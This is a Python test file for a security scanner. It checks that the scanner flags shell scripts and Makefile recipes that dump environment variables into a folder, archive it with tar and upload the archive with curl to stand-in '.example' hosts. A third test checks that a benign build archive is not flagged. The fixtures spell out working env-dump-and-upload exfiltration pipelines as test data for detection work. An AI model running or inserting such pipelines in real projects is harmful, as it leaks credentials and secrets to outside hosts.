"""``tar -C DIR -czf out.tgz .``: the archive named after ``-f`` is where tar started, only the
operands after ``-C`` are inside DIR. A folder holding the environment, packed this way and the
archive sent, is the environment sent. Hosts are ``.example``; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_environment_written_into_a_folder_packed_from_inside_it_and_sent(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/pack.sh": "#!/bin/sh\n"
            "mkdir -p stage\n"
            "printenv | sort > stage/settings.txt\n"
            "tar -C stage -cjf release.tbz2 .\n"
            "curl -sS -T release.tbz2 https://uploads.ledger-depot.example/in/\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/pack.sh", 5) in errors


def test_helper_dump_packed_by_a_makefile_recipe_with_the_archive_named_by_file_flag(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "build/settings.sh": '#!/usr/bin/env bash\necho "when: $(date)"\nenv\n',
            "build/Makefile": "OUT := staging\n"
            "upload:\n"
            "\tmkdir -p $(OUT)\n"
            "\t./settings.sh > $(OUT)/context.txt\n"
            "\ttar --directory $(OUT) --file report.tar -c .\n"
            "\tcurl -F 'doc=@report.tar' https://intake.records-vault.example/submit\n",
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "build/Makefile", 6) in errors


def test_folder_of_build_files_packed_from_inside_it_and_sent_stays_clean(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "tools/pack.sh": "#!/bin/sh\n"
            "mkdir -p stage\n"
            "date -u > stage/built.txt\n"
            "cp README.md stage/\n"
            "tar -C stage -czf release.tgz .\n"
            "curl -sS -T release.tgz https://uploads.ledger-depot.example/in/\n"
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]
